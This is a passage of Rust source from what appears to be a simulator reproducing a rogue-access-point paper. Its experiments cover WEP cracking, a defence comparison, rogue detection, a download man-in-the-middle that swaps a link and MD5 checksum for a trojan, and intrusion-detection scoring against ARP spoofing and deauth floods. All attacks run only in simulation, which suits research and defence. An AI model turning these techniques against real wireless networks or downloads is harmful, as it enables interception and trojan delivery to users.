        snort.absorb_sample(oracle_sample(key, iv));
    }
    match snort.crack(key.len()) {
        CrackOutcome::Recovered(k) => k.bytes() == key.bytes(),
        _ => false,
    }
}

/// The success-vs-samples curve for the given key length.
pub fn crack_curve(
    key_len: usize,
    weak_counts: &[usize],
    reps: usize,
    seed: Seed,
) -> Vec<CrackPoint> {
    weak_counts
        .par_iter()
        .map(|&w| {
            let successes = (0..reps)
                .into_par_iter()
                .filter(|&rep| {
                    let mut rng =
                        SimRng::new(seed.fork((key_len * 1_000_000 + w * 1000 + rep) as u64));
                    let key = random_key(&mut rng, key_len);
                    crack_once(&key, w)
                })
                .count();
            CrackPoint {
                key_len,
                weak_ivs_per_position: w,
                equivalent_frames: w as u64 * 65_536,
                reps,
                success_rate: successes as f64 / reps.max(1) as f64,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plenty_of_samples_cracks_reliably() {
        let mut rng = SimRng::new(Seed(41));
        let key = random_key(&mut rng, 5);
        assert!(crack_once(&key, 256));
    }

    #[test]
    fn starved_attack_fails() {
        let mut rng = SimRng::new(Seed(42));
        let key = random_key(&mut rng, 5);
        assert!(
            !crack_once(&key, 2),
            "2 weak IVs per byte cannot vote reliably"
        );
    }

    #[test]
    fn curve_is_monotone_ish() {
        let points = crack_curve(5, &[5, 240], 4, Seed(43));
        assert_eq!(points.len(), 2);
        assert!(
            points[0].success_rate <= points[1].success_rate,
            "{points:?}"
        );
        assert!(points[1].success_rate >= 0.75, "{points:?}");
        assert_eq!(points[0].equivalent_frames, 5 * 65_536);
    }

    #[test]
    fn wep104_cracks_with_enough_samples() {
        let mut rng = SimRng::new(Seed(44));
        let key = random_key(&mut rng, 13);
        assert!(crack_once(&key, 256));
    }
}
