//! **E7 — the defence matrix (the paper's §§1–3 argument as one table).**
//!
//! For each client/network policy, run the full Figure 2 attack and
//! record what the victim ended up with. The paper's thesis, measured:
//! every link-layer defence of the era (WEP, MAC filtering, one-way
//! 802.1x-style auth) leaves the client trojaned-with-a-passing-checksum;
//! only tunnelling everything to a trusted endpoint survives.

use rayon::prelude::*;
use rogue_crypto::wep::WepKey;
use rogue_sim::Seed;
use rogue_vpn::Transport;

use super::e2_download::{run_download_mitm, DownloadMitmConfig, DownloadMitmResult};
use crate::policy::ClientPolicy;
use crate::report::{pct, yn, Table};
use crate::scenario::CorpScenarioCfg;

/// One row of the matrix.
#[derive(Clone, Debug)]
pub struct MatrixRow {
    /// The defence in place.
    pub policy: ClientPolicy,
    /// Replications.
    pub reps: usize,
    /// Victim associated to the rogue AP.
    pub captured_rate: f64,
    /// Victim installed the trojan *and its MD5 check passed* — fully
    /// deceived.
    pub deceived_rate: f64,
    /// Victim completed a genuine, verified download.
    pub protected_rate: f64,
    /// Download workflow completed at all.
    pub completed_rate: f64,
}

/// Configure the corporate scenario for one policy.
pub fn scenario_for(policy: ClientPolicy) -> CorpScenarioCfg {
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.wep = policy
        .uses_wep()
        .then(|| WepKey::from_passphrase_40("SECRET"));
    cfg.mac_filter = policy.uses_mac_filter();
    cfg.victim_vpn = policy.uses_vpn();
    // §2.2: 802.1x authenticates the client to the network with no
    // network authentication; at the MAC layer the rogue simply plays
    // along, so the scenario is open-link with the same race.
    if policy == ClientPolicy::Dot1xStyle {
        cfg.wep = None;
        cfg.mac_filter = false;
    }
    cfg
}

/// Run the matrix: `reps` replications per policy.
pub fn defense_matrix(reps: usize, seed: Seed) -> Vec<MatrixRow> {
    ClientPolicy::all()
        .into_iter()
        .map(|policy| {
            let results: Vec<DownloadMitmResult> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    let cfg = DownloadMitmConfig {
                        scenario: scenario_for(policy),
                        ..DownloadMitmConfig::paper()
                    };
                    run_download_mitm(
                        &cfg,
                        seed.fork(policy.label().len() as u64 * 7919 + rep as u64),
                    )
                })
                .collect();
            let n = results.len().max(1) as f64;
            MatrixRow {
                policy,
                reps: results.len(),
                captured_rate: results.iter().filter(|r| r.victim_on_rogue).count() as f64 / n,
                deceived_rate: results
                    .iter()
                    .filter(|r| r.victim_got_trojan && r.md5_check_passed)
                    .count() as f64
                    / n,
                protected_rate: results
                    .iter()
                    .filter(|r| r.victim_got_genuine && r.md5_check_passed)
                    .count() as f64
                    / n,
                completed_rate: results.iter().filter(|r| r.completed).count() as f64 / n,
            }
        })
        .collect()
}

/// Also include the TCP-encapsulated VPN as a sixth row.
pub fn defense_matrix_extended(reps: usize, seed: Seed) -> Vec<MatrixRow> {
    let mut rows = defense_matrix(reps, seed);
    let policy = ClientPolicy::VpnAll(Transport::Tcp);
    let results: Vec<DownloadMitmResult> = (0..reps)
        .into_par_iter()
        .map(|rep| {
            let cfg = DownloadMitmConfig {
                scenario: scenario_for(policy),
                ..DownloadMitmConfig::paper()
            };
            run_download_mitm(&cfg, seed.fork(0x7C9 + rep as u64))
        })
        .collect();
    let n = results.len().max(1) as f64;
    rows.push(MatrixRow {
        policy,
        reps: results.len(),
        captured_rate: results.iter().filter(|r| r.victim_on_rogue).count() as f64 / n,
        deceived_rate: results
            .iter()
            .filter(|r| r.victim_got_trojan && r.md5_check_passed)
            .count() as f64
            / n,
        protected_rate: results
            .iter()
            .filter(|r| r.victim_got_genuine && r.md5_check_passed)
            .count() as f64
            / n,
        completed_rate: results.iter().filter(|r| r.completed).count() as f64 / n,
    });
    rows
}

/// Render the matrix as the table EXPERIMENTS.md records.
pub fn render(rows: &[MatrixRow]) -> String {
    let mut t = Table::new(&[
        "defence",
        "captured",
        "deceived (trojan+md5 ok)",
        "protected (genuine+md5 ok)",
        "attack defeated",
    ]);
    for r in rows {
        t.row(&[
            r.policy.label().to_string(),
            pct(r.captured_rate),
            pct(r.deceived_rate),
            pct(r.protected_rate),
            yn(r.deceived_rate == 0.0 && r.protected_rate > 0.0),
        ]);
    }
    t.render()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn link_layer_defences_fail_vpn_survives() {
        let rows = defense_matrix(1, Seed(71));
        assert_eq!(rows.len(), 6);
        for r in &rows {
            match r.policy {
                ClientPolicy::VpnAll(_) => {
                    assert_eq!(r.deceived_rate, 0.0, "{r:?}");
                    assert!(r.protected_rate > 0.99, "{r:?}");
                }
                _ => {
                    assert!(r.captured_rate > 0.99, "{r:?}");
                    assert!(r.deceived_rate > 0.99, "{r:?}");
                    assert_eq!(r.protected_rate, 0.0, "{r:?}");
                }
            }
        }
        let table = render(&rows);
        assert!(table.contains("wep+macfilter"));
        assert!(table.contains("vpn-all (udp)"));
    }
}
