//! **E6 — §2.3: detecting the rogue.**
//!
//! "Good record keeping and doing radio site audits will help detect
//! these rogues. These techniques rely on monitoring 802.11b Sequence
//! Control numbers."
//!
//! A defender's monitor radio sweeps the channels; the captured beacons
//! and data frames feed three detectors:
//!
//! * the **site auditor** (same BSSID on two channels — Figure 1's
//!   cloned-BSSID rogue is exactly this),
//! * the **sequence-control monitor** (two radios behind one transmitter
//!   address produce interleaved counters / channel divergence),
//! * the **wired monitor** — which stays silent, because the client-side
//!   rogue never touches the wired LAN. That silence is the paper's §1
//!   argument: "if an AP is not connected to the internal network, it is
//!   not a threat" is exactly the logic this attack defeats.

use rayon::prelude::*;
use rogue_detect::audit::SiteAuditor;
use rogue_detect::AlarmKind;
use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;
use rogue_phy::Pos;
use rogue_sim::{Seed, SimDuration, SimTime};
use rogue_wids::{Detector, RadioSensor, RawAlert, SensorId, SensorRing, SeqControlDetector};

use crate::scenario::{build_corp, corp_bssid, CorpScenarioCfg, RogueCfg};

/// Run the streaming sequence-control detector over a finished capture
/// buffer, returning alerts against `subject` (the E6 usage of the WIDS
/// [`Detector`] interface: one sensor, one detector, post-hoc).
fn seq_alerts_for(sniffer: &Sniffer, subject: MacAddr) -> Vec<RawAlert> {
    let mut ring = SensorRing::new(sniffer.captures.len().max(1));
    let mut sensor = RadioSensor::new(SensorId(0));
    sensor.drain(sniffer, &mut ring);
    let mut det = SeqControlDetector::default();
    let mut alerts = Vec::new();
    for ev in ring.drain() {
        det.on_event(&ev, &mut alerts);
    }
    alerts.retain(|a| a.subject == subject);
    alerts
}

/// One replication's detection outcome.
#[derive(Clone, Debug)]
pub struct DetectionOutcome {
    /// When the rogue came on air.
    pub rogue_start: SimTime,
    /// Site-audit detection (same BSSID, two channels): latency from
    /// rogue start, seconds.
    pub audit_latency_secs: Option<f64>,
    /// Sequence/channel anomaly detection latency, seconds.
    pub seqmon_latency_secs: Option<f64>,
    /// Did the wired monitor raise anything? (It should not.)
    pub wired_alarmed: bool,
    /// Beacons the sweep captured.
    pub beacons_captured: usize,
}

/// Run one detection replication: the defender's monitor hops across
/// `channels`, dwelling `dwell` on each, while the rogue (and deauth
/// flood) come up mid-run.
pub fn run_detection_once(dwell: SimDuration, run_time: SimTime, seed: Seed) -> DetectionOutcome {
    let rogue_start = SimTime::from_secs(2);
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.wired_monitor = true;
    cfg.rogue = Some(RogueCfg {
        start_at: rogue_start,
        deauth_victim: true,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, seed);

    // The defender: a monitor radio placed between the APs.
    let defender = sc.world.add_node("defender");
    let mon = sc.world.add_monitor(defender, Pos::new(20.0, 10.0), 1);

    // Channel-hopping sweep: run in dwell-sized slices.
    let channels: Vec<u8> = (1..=11).collect();
    let mut now = SimTime::ZERO;
    let mut ch_idx = 0usize;
    while now < run_time {
        sc.world
            .set_radio_channel(defender, mon, channels[ch_idx % channels.len()]);
        ch_idx += 1;
        now = now.saturating_add(dwell).min(run_time);
        sc.world.run_until(now);
    }

    // Feed the detectors.
    let sniffer = sc.world.sniffer(defender, mon);
    let mut auditor = SiteAuditor::new();
    auditor.authorize(corp_bssid(), 1);
    auditor.audit(sniffer);
    let audit_alarm = auditor
        .alarms
        .iter()
        .filter(|a| a.kind == AlarmKind::DuplicateBssid && a.at >= rogue_start)
        .map(|a| a.at)
        .min();

    let seq_alarm = seq_alerts_for(sniffer, corp_bssid())
        .iter()
        .filter(|a| a.at >= rogue_start)
        .map(|a| a.at)
        .min();

    let wired_alarmed = sc
        .world
        .wired_monitor(sc.monitor_node.expect("wired monitor deployed"))
        .map(|m| !m.alarms.is_empty())
        .unwrap_or(false);

    let latency = |t: Option<SimTime>| {
        t.filter(|t| *t >= rogue_start)
            .map(|t| t.since(rogue_start).as_secs_f64())
    };
    DetectionOutcome {
        rogue_start,
        audit_latency_secs: latency(audit_alarm),
        seqmon_latency_secs: latency(seq_alarm),
        wired_alarmed,
        beacons_captured: sniffer.beacons().len(),
    }
}

/// One row of the dwell sweep.
#[derive(Clone, Debug)]
pub struct DetectionPoint {
    /// Sweep dwell per channel, ms.
    pub dwell_ms: u64,
    /// Replications.
    pub reps: usize,
    /// Fraction where the site audit caught the rogue.
    pub audit_detection_rate: f64,
    /// Mean audit latency over detecting runs, seconds.
    pub mean_audit_latency_secs: f64,
    /// Fraction where the sequence monitor caught it.
    pub seqmon_detection_rate: f64,
    /// Fraction where the wired monitor alarmed (expected 0).
    pub wired_alarm_rate: f64,
}

/// Sweep the auditor's per-channel dwell.
pub fn detection_vs_dwell(dwells_ms: &[u64], reps: usize, seed: Seed) -> Vec<DetectionPoint> {
    dwells_ms
        .par_iter()
        .map(|&dwell_ms| {
            let outcomes: Vec<DetectionOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    run_detection_once(
                        SimDuration::from_millis(dwell_ms),
                        SimTime::from_secs(15),
                        seed.fork(dwell_ms * 31 + rep as u64),
                    )
                })
                .collect();
            let n = outcomes.len().max(1) as f64;
            let audit_hits: Vec<f64> = outcomes
                .iter()
                .filter_map(|o| o.audit_latency_secs)
                .collect();
            DetectionPoint {
                dwell_ms,
                reps: outcomes.len(),
                audit_detection_rate: audit_hits.len() as f64 / n,
                mean_audit_latency_secs: if audit_hits.is_empty() {
                    f64::NAN
                } else {
                    audit_hits.iter().sum::<f64>() / audit_hits.len() as f64
                },
                seqmon_detection_rate: outcomes
                    .iter()
                    .filter(|o| o.seqmon_latency_secs.is_some())
                    .count() as f64
                    / n,
                wired_alarm_rate: outcomes.iter().filter(|o| o.wired_alarmed).count() as f64 / n,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sweep_detects_cloned_bssid() {
        let o = run_detection_once(
            SimDuration::from_millis(250),
            SimTime::from_secs(15),
            Seed(61),
        );
        assert!(o.beacons_captured > 10, "{o:?}");
        assert!(
            o.audit_latency_secs.is_some(),
            "site audit must flag the duplicate BSSID: {o:?}"
        );
        assert!(
            o.seqmon_latency_secs.is_some(),
            "channel divergence must trip the sequence monitor: {o:?}"
        );
    }

    #[test]
    fn wired_monitor_stays_silent() {
        // The paper's point: this rogue never touches the wired LAN.
        let o = run_detection_once(
            SimDuration::from_millis(250),
            SimTime::from_secs(10),
            Seed(62),
        );
        assert!(!o.wired_alarmed, "{o:?}");
    }

    #[test]
    fn no_rogue_no_alarm() {
        let cfg = CorpScenarioCfg::baseline();
        let mut sc = build_corp(&cfg, Seed(63));
        let defender = sc.world.add_node("defender");
        let mon = sc.world.add_monitor(defender, Pos::new(20.0, 10.0), 1);
        let mut now = SimTime::ZERO;
        let mut ch = 1u8;
        while now < SimTime::from_secs(8) {
            sc.world.set_radio_channel(defender, mon, ch);
            ch = if ch >= 11 { 1 } else { ch + 1 };
            now = now.saturating_add(SimDuration::from_millis(250));
            sc.world.run_until(now);
        }
        let sniffer = sc.world.sniffer(defender, mon);
        let mut auditor = SiteAuditor::new();
        auditor.authorize(corp_bssid(), 1);
        auditor.audit(sniffer);
        assert!(auditor.alarms.is_empty(), "{:?}", auditor.alarms);
        assert!(
            seq_alerts_for(sniffer, corp_bssid()).is_empty(),
            "healthy AP must not trip the sequence detector"
        );
    }
}
