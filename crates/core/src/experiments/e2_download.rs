//! **E2 — Figure 2 / §4.1: the software-download MITM.**
//!
//! The paper's proof of concept: the victim fetches a download page
//! through the rogue gateway; netfilter DNATs the page request into a
//! local netsed which rewrites the download link (to the attacker's
//! mirror) and the advertised MD5SUM (to the trojan's). The victim
//! downloads the trojan, verifies the checksum, and is *reassured*.
//!
//! Also quantified: the tool's admitted limitation — "netsed will not
//! match strings that cross packet boundaries" — as a rewrite success
//! rate vs. the server's TCP segment size ([`boundary_miss_sweep`]).

use rayon::prelude::*;
use rogue_dot11::sta::StaState;
use rogue_netstack::Ipv4Addr;
use rogue_services::apps::DownloadClient;
use rogue_services::netsed::Netsed;
use rogue_sim::{Seed, SimDuration, SimTime};

use crate::scenario::{build_corp, CorpScenarioCfg};

/// Experiment configuration.
#[derive(Clone, Debug)]
pub struct DownloadMitmConfig {
    /// Underlying topology.
    pub scenario: CorpScenarioCfg,
    /// When the victim starts browsing.
    pub download_start: SimTime,
    /// Per-download timeout.
    pub download_timeout: SimDuration,
    /// Total run time.
    pub run_time: SimTime,
}

impl DownloadMitmConfig {
    /// The Section 4 setup, verbatim.
    pub fn paper() -> DownloadMitmConfig {
        DownloadMitmConfig {
            scenario: CorpScenarioCfg::paper_attack(),
            download_start: SimTime::from_secs(2),
            download_timeout: SimDuration::from_secs(25),
            run_time: SimTime::from_secs(30),
        }
    }

    /// Same victim workflow on the healthy network.
    pub fn baseline() -> DownloadMitmConfig {
        DownloadMitmConfig {
            scenario: CorpScenarioCfg::baseline(),
            ..DownloadMitmConfig::paper()
        }
    }
}

/// What one replication produced.
#[derive(Clone, Debug)]
pub struct DownloadMitmResult {
    /// The download workflow completed (page + file fetched).
    pub completed: bool,
    /// The fetched bytes are the attacker's trojan.
    pub victim_got_trojan: bool,
    /// The fetched bytes are the genuine release.
    pub victim_got_genuine: bool,
    /// The victim's MD5 verification passed.
    pub md5_check_passed: bool,
    /// Where the file actually came from.
    pub file_server: Option<Ipv4Addr>,
    /// The link on the page as the victim saw it.
    pub link_seen: Option<String>,
    /// Whether the victim ended up associated to the rogue AP.
    pub victim_on_rogue: bool,
    /// netsed replacements performed on the gateway.
    pub netsed_replacements: u64,
    /// Wall-clock (simulated) duration of the workflow, seconds.
    pub download_secs: f64,
    /// Failure reason, if any.
    pub error: Option<String>,
}

/// Run one replication of the Figure 2 experiment.
pub fn run_download_mitm(cfg: &DownloadMitmConfig, seed: Seed) -> DownloadMitmResult {
    let mut sc = build_corp(&cfg.scenario, seed);
    let dl_app = sc.world.add_app(
        sc.victim,
        Box::new(DownloadClient::new(
            crate::scenario::addrs::TARGET,
            "/download.html",
            cfg.download_start,
            cfg.download_timeout,
        )),
    );
    sc.world.run_until(cfg.run_time);

    let outcome = sc
        .world
        .app::<DownloadClient>(sc.victim, dl_app)
        .outcome
        .clone();
    let victim_on_rogue = match &sc.gateway {
        Some(gw) => sc
            .world
            .ap(gw.node, gw.rogue_ap_radio)
            .is_associated(crate::scenario::victim_mac()),
        None => false,
    };
    let netsed_replacements = match &sc.gateway {
        Some(gw) => sc.world.app::<Netsed>(gw.node, gw.netsed_app).replacements,
        None => 0,
    };
    let victim_associated = sc.world.sta_state(sc.victim, sc.victim_radio) == StaState::Associated;

    match outcome {
        Some(o) => {
            let bytes = o.file_bytes.as_deref();
            DownloadMitmResult {
                completed: o.error.is_none(),
                victim_got_trojan: bytes == Some(&sc.trojan[..]),
                victim_got_genuine: bytes == Some(&sc.portal.file[..]),
                md5_check_passed: o.verified,
                file_server: o.file_server,
                link_seen: o.link.clone(),
                victim_on_rogue,
                netsed_replacements,
                download_secs: o
                    .completed_at
                    .map(|t| t.since(cfg.download_start).as_secs_f64())
                    .unwrap_or(f64::NAN),
                error: o.error,
            }
        }
        None => DownloadMitmResult {
            completed: false,
            victim_got_trojan: false,
            victim_got_genuine: false,
            md5_check_passed: false,
            file_server: None,
            link_seen: None,
            victim_on_rogue,
            netsed_replacements,
            download_secs: f64::NAN,
            error: Some(if victim_associated {
                "download never finished".into()
            } else {
                "victim never associated".into()
            }),
        },
    }
}

/// One row of the boundary-miss sweep.
#[derive(Clone, Debug)]
pub struct BoundaryPoint {
    /// Server-side TCP MSS.
    pub server_mss: usize,
    /// Replications run.
    pub reps: usize,
    /// Fraction where the link rewrite landed (victim got the trojan).
    pub link_rewrite_rate: f64,
    /// Fraction where both rewrites landed (trojan fetched AND the MD5
    /// verification passed) — the full Figure 2 deception.
    pub full_deception_rate: f64,
    /// Fraction of completed runs with at least one boundary miss
    /// (fewer than the expected 2 replacements).
    pub any_miss_rate: f64,
}

/// Sweep the server's segment size. Small segments make the target
/// strings straddle TCP boundaries more often; each replication also
/// randomizes the page padding so the split point moves.
pub fn boundary_miss_sweep(mss_values: &[usize], reps: usize, seed: Seed) -> Vec<BoundaryPoint> {
    mss_values
        .par_iter()
        .map(|&mss| {
            let outcomes: Vec<(bool, bool, bool)> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    let rep_seed = seed.fork(mss as u64 * 10_000 + rep as u64);
                    let mut cfg = DownloadMitmConfig::paper();
                    cfg.scenario.server_mss = mss;
                    // Shift segment boundaries per replication.
                    cfg.scenario.page_pad =
                        rogue_sim::SimRng::new(rep_seed).below(mss as u64) as usize;
                    let r = run_download_mitm(&cfg, rep_seed);
                    let link = r.victim_got_trojan;
                    let full = r.victim_got_trojan && r.md5_check_passed;
                    let miss = r.completed && r.netsed_replacements < 2;
                    (link, full, miss)
                })
                .collect();
            let n = outcomes.len().max(1);
            BoundaryPoint {
                server_mss: mss,
                reps: outcomes.len(),
                link_rewrite_rate: outcomes.iter().filter(|o| o.0).count() as f64 / n as f64,
                full_deception_rate: outcomes.iter().filter(|o| o.1).count() as f64 / n as f64,
                any_miss_rate: outcomes.iter().filter(|o| o.2).count() as f64 / n as f64,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figure2_attack_succeeds_end_to_end() {
        let r = run_download_mitm(&DownloadMitmConfig::paper(), Seed(11));
        assert!(r.completed, "error: {:?}", r.error);
        assert!(r.victim_on_rogue, "victim must be on the rogue AP");
        assert!(r.victim_got_trojan, "link rewrite must land");
        assert!(!r.victim_got_genuine);
        assert!(
            r.md5_check_passed,
            "the victim's verification must be fooled (md5 rule)"
        );
        assert_eq!(
            r.file_server,
            Some(crate::scenario::addrs::EVIL),
            "the naive attack reveals the real download IP (§4.2)"
        );
        assert!(r.netsed_replacements >= 2);
        assert!(
            r.link_seen.as_deref().unwrap_or("").contains("evil.tgz"),
            "rewritten link: {:?}",
            r.link_seen
        );
    }

    #[test]
    fn baseline_download_is_genuine() {
        let r = run_download_mitm(&DownloadMitmConfig::baseline(), Seed(12));
        assert!(r.completed, "error: {:?}", r.error);
        assert!(!r.victim_on_rogue);
        assert!(r.victim_got_genuine);
        assert!(r.md5_check_passed);
        assert_eq!(r.file_server, Some(crate::scenario::addrs::TARGET));
        assert_eq!(r.netsed_replacements, 0);
    }

    #[test]
    fn tiny_mss_causes_boundary_misses() {
        // With a 96-byte server MSS the 32-char MD5SUM straddles a
        // boundary in roughly a third of random paddings.
        let points = boundary_miss_sweep(&[96], 6, Seed(13));
        assert_eq!(points.len(), 1);
        let p = &points[0];
        assert_eq!(p.reps, 6);
        assert!(
            p.any_miss_rate > 0.0 || p.full_deception_rate < 1.0,
            "expected some straddle at MSS 96: {p:?}"
        );
    }
}
