//! **E10 (extension) — scoring the streaming WIDS.**
//!
//! E6 showed single detectors flagging single symptoms post-hoc. E10
//! runs the full `rogue-wids` pipeline — fixed monitor radios on the
//! three non-overlapping channels plus a span-port tap on the corp
//! switch, feeding five detectors and the correlation engine — *live*
//! against scripted attacks, and scores the resulting incidents against
//! ground truth: precision, recall, and median detection latency.
//!
//! Scenarios:
//!
//! * **clean** — the baseline network; every incident is a false
//!   positive;
//! * **rogue-ap+deauth** — the paper's full §4 attack arriving at
//!   t = 2 s: cloned-BSSID rogue on channel 6, targeted deauth flood,
//!   victim download MITMed through the bridge. Note the wired tap stays
//!   quiet here — the gateway's proxy re-originates upstream connections
//!   from its own (cloned-employee) address, so the LAN never even sees
//!   an ARP claim for the victim's IP. That silence is §1's warning made
//!   measurable: the client-side rogue leaves no wired footprint, and
//!   only the radio sensors catch it;
//! * **arp-spoof** — a purely wired attacker gratuitously claiming the
//!   gateway's IP from t = 3 s.

use rayon::prelude::*;
use rogue_attack::ArpSpoofer;
use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_phy::Pos;
use rogue_services::apps::DownloadClient;
use rogue_sim::{Seed, SimDuration, SimTime};
use rogue_wids::{
    evaluate, EvalOutcome, IncidentCategory, RadioSensor, TruthLabel, WidsConfig, WidsPipeline,
    WiredSensor,
};

use crate::report::Table;
use crate::scenario::{addrs, build_corp, corp_bssid, victim_mac};
use crate::scenario::{CorpScenarioCfg, RogueCfg};

/// Parameters of the E10 driver. [`E10Params::default`] is exactly the
/// deployment the checked-in report was generated with; the scenario
/// compiler (`rogue-scenario`) overrides fields from a `.toml` file and
/// must reproduce that table byte-for-byte at the defaults.
#[derive(Clone, Debug)]
pub struct E10Params {
    /// Wall-clock horizon of each replication.
    pub run_time: SimTime,
    /// When the rogue-AP + deauth attack powers on.
    pub attack_start: SimTime,
    /// When the wired ARP poisoner starts claiming the gateway.
    pub spoof_start: SimTime,
    /// Lockstep slice between WIDS pipeline steps.
    pub slice: SimDuration,
    /// Channels the fixed monitor radios listen on.
    pub monitor_channels: Vec<u8>,
    /// Where the monitor radios sit.
    pub monitor_pos: Pos,
    /// Truth-matching window passed to [`evaluate`].
    pub match_window: SimDuration,
    /// Scenarios scored, in table order.
    pub scenarios: Vec<WidsScenario>,
}

impl Default for E10Params {
    fn default() -> E10Params {
        E10Params {
            run_time: SimTime::from_secs(10),
            attack_start: SimTime::from_secs(2),
            spoof_start: SimTime::from_secs(3),
            slice: SimDuration::from_millis(100),
            monitor_channels: vec![1, 6, 11],
            monitor_pos: Pos::new(20.0, 10.0),
            match_window: SimDuration::from_millis(500),
            scenarios: WidsScenario::all().to_vec(),
        }
    }
}

/// The scripted scenarios E10 scores.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WidsScenario {
    /// No attacker; anything flagged is a false positive.
    Clean,
    /// The paper's §4 attack: cloned-BSSID rogue + deauth flood + MITM.
    RogueApDeauth,
    /// A wired attacker poisoning the gateway binding.
    ArpSpoof,
}

impl WidsScenario {
    /// Table label.
    pub fn name(self) -> &'static str {
        match self {
            WidsScenario::Clean => "clean",
            WidsScenario::RogueApDeauth => "rogue-ap+deauth",
            WidsScenario::ArpSpoof => "arp-spoof",
        }
    }

    /// All scored scenarios.
    pub fn all() -> [WidsScenario; 3] {
        [
            WidsScenario::Clean,
            WidsScenario::RogueApDeauth,
            WidsScenario::ArpSpoof,
        ]
    }

    /// Inverse of [`name`](WidsScenario::name), for scenario files.
    pub fn from_name(name: &str) -> Option<WidsScenario> {
        WidsScenario::all().into_iter().find(|s| s.name() == name)
    }
}

/// MAC of the wired ARP attacker.
fn arp_attacker_mac() -> MacAddr {
    MacAddr::local(66)
}

/// One replication's outcome.
#[derive(Clone, Debug)]
pub struct WidsRunOutcome {
    /// Scenario run.
    pub scenario: WidsScenario,
    /// Ground-truth score.
    pub eval: EvalOutcome,
    /// Incidents the pipeline opened.
    pub incidents: usize,
    /// Sensor events processed.
    pub events: u64,
    /// Events lost to ring overrun (expected 0 at this capacity).
    pub ring_dropped: u64,
    /// (category, subject, opened at, score) per incident, for reports
    /// and the determinism check.
    pub incident_log: Vec<(IncidentCategory, MacAddr, SimTime, f64)>,
}

/// Run one replication of `scenario` against `base`, stepping the WIDS
/// pipeline in lockstep slices alongside the simulation. Defaults:
/// [`run_wids_once`].
pub fn run_wids_once_with(
    base: &CorpScenarioCfg,
    params: &E10Params,
    scenario: WidsScenario,
    seed: Seed,
) -> WidsRunOutcome {
    let run_time = params.run_time;
    let attack_start = params.attack_start;
    let spoof_start = params.spoof_start;

    let mut cfg = base.clone();
    cfg.rogue = match scenario {
        WidsScenario::RogueApDeauth => Some(RogueCfg {
            start_at: attack_start,
            deauth_victim: true,
            ..base.rogue.clone().unwrap_or_default()
        }),
        // clean / arp-spoof run the baseline network: no rogue on air.
        _ => None,
    };
    cfg.wired_monitor = false;
    let mut sc = build_corp(&cfg, seed);

    // The victim browses at t = 2 s (as in E2/E9), so the rogue scenario
    // exercises the full MITM path and the clean/arp runs carry the same
    // legitimate traffic the detectors must not flag.
    sc.world.add_app(
        sc.victim,
        Box::new(DownloadClient::new(
            addrs::TARGET,
            "/download.html",
            attack_start,
            SimDuration::from_secs(25),
        )),
    );

    if scenario == WidsScenario::ArpSpoof {
        let attacker = sc.world.add_node("arp-attacker");
        let a_if = sc.world.add_wired_iface(
            attacker,
            sc.corp_switch,
            arp_attacker_mac(),
            Ipv4Addr::new(192, 168, 0, 66),
            24,
        );
        sc.world.add_app(
            attacker,
            Box::new(ArpSpoofer::new(
                addrs::CORP_GW,
                None,
                a_if,
                spoof_start,
                SimDuration::from_millis(800),
            )),
        );
    }

    // --- the WIDS deployment ------------------------------------------
    // Fixed sensors on the three non-overlapping channels, plus a span
    // port on the corp switch.
    let defender = sc.world.add_node("wids-defender");
    let monitors: Vec<usize> = params
        .monitor_channels
        .iter()
        .map(|&ch| sc.world.add_monitor(defender, params.monitor_pos, ch))
        .collect();
    sc.world.add_wire_tap(defender, sc.corp_switch);

    let mut pipe = WidsPipeline::new(WidsConfig {
        authorized_aps: vec![(corp_bssid(), 1)],
        trusted_bindings: vec![
            (addrs::CORP_GW, MacAddr::local(254)),
            (addrs::VICTIM, victim_mac()),
        ],
        ..WidsConfig::default()
    });
    let mut radio_sensors: Vec<RadioSensor> = monitors
        .iter()
        .map(|_| RadioSensor::new(pipe.new_sensor_id()))
        .collect();
    let wired_id = pipe.new_sensor_id();
    let mut wired_sensor = WiredSensor::new(wired_id);
    let mut wired_cursor = 0usize;

    // --- lockstep run --------------------------------------------------
    let slice = params.slice;
    let mut now = SimTime::ZERO;
    while now < run_time {
        now = (now + slice).min(run_time);
        sc.world.run_until(now);
        for (sensor, &mon) in radio_sensors.iter_mut().zip(&monitors) {
            sensor.drain(sc.world.sniffer(defender, mon), &mut pipe.ring);
        }
        if let Some(tap) = sc.world.wire_tap(defender) {
            for (at, bytes) in &tap.frames[wired_cursor..] {
                wired_sensor.ingest(*at, bytes, &mut pipe.ring);
            }
            wired_cursor = tap.frames.len();
        }
        pipe.step(now);
    }

    // --- ground truth --------------------------------------------------
    let labels: Vec<TruthLabel> = match scenario {
        WidsScenario::Clean => Vec::new(),
        WidsScenario::RogueApDeauth => vec![
            // The cloned-BSSID rogue itself.
            TruthLabel::new(
                IncidentCategory::RogueAp,
                Some(corp_bssid()),
                attack_start,
                run_time,
            ),
            // Its targeted deauth flood (from rogue start + 700 ms).
            TruthLabel::new(
                IncidentCategory::DeauthFlood,
                Some(corp_bssid()),
                attack_start + SimDuration::from_millis(700),
                run_time,
            ),
        ],
        WidsScenario::ArpSpoof => vec![TruthLabel::new(
            IncidentCategory::ArpSpoof,
            Some(arp_attacker_mac()),
            spoof_start,
            run_time,
        )],
    };
    let eval = evaluate(pipe.incidents(), &labels, params.match_window);

    WidsRunOutcome {
        scenario,
        eval,
        incidents: pipe.incidents().len(),
        events: pipe.metrics().counter("wids.events"),
        ring_dropped: pipe.metrics().counter("wids.ring_dropped"),
        incident_log: pipe
            .incidents()
            .iter()
            .map(|i| (i.category, i.subject, i.opened_at, i.score))
            .collect(),
    }
}

/// [`run_wids_once_with`] on the paper scenario with paper timing.
pub fn run_wids_once(scenario: WidsScenario, seed: Seed) -> WidsRunOutcome {
    run_wids_once_with(
